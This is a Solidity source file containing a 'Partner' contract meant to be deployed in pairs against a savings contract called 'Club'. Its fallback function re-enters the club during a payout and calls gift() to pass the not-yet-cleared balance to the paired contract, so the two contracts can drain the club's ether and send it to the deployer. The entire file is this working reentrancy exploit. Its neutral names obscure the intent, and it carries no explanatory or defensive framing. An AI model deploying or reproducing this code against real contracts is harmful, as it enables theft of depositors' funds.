pragma solidity 0.5.17;

interface IClub {
    function save() external payable;
    function gift(address friend, uint256 amount) external;
    function leave() external;
    function balanceOf(address who) external view returns (uint256);
}

contract Partner {
    IClub public club;
    Partner public other;
    address payable private boss;

    constructor() public {
        boss = msg.sender;
    }

    function pair(IClub _club, Partner _other) public payable {
        club = _club;
        other = _other;
        club.save.value(msg.value)();
    }

    function cashOut() public {
        club.leave();
        boss.transfer(address(this).balance);
    }

    function() external payable {
        if (msg.sender == address(club)) {
            uint256 b = club.balanceOf(address(this));
            if (b > 0 && address(club).balance >= b) {
                club.gift(address(other), b);
            }
        }
    }
}
